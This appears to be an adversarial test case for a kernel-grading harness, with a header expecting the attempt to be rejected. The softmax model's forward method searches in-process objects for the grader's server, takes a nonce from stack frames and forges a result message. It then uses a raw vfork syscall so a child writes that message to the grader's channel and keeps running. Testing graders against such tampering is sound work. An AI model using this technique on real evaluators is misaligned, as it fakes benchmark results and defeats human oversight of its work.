# attack: X5 lets a vforked child answer, so that the program itself cannot be stopped after the answer
# task: softmax
# expect: rejected incorrect runtime_error timeout
# seconds: 60
import ctypes
import gc
import os
import platform
import struct
import sys

import torch
import torch.nn as nn

libc = ctypes.CDLL(None, use_errno=True)
VFORK = (56, 0x4000 | 17) if platform.machine() == "x86_64" else (220, 0x4000 | 17)


class ModelNew(nn.Module):
    def forward(self, x):
        out = torch.softmax(x, dim=-1)
        gc.unfreeze()
        server = next(o for o in gc.get_objects() if type(o).__name__ == "Server" and hasattr(o, "channel"))
        nonce, frame = 0, sys._getframe().f_back
        while frame is not None and not nonce:
            found = frame.f_locals.get("nonce")
            nonce = found if isinstance(found, int) else 0
            frame = frame.f_back
        answer = struct.pack("<IIQqIIQ", 0x4C4F4444, 3, nonce, 900_000, 0, 1, out.data_ptr()).ljust(4096, b"\0")
        if libc.syscall(*VFORK, 0, 0, 0, 0) == 0:
            os.write(server.channel.fileno(), answer)
            libc.sleep(30)
            libc._exit(0)
        return out
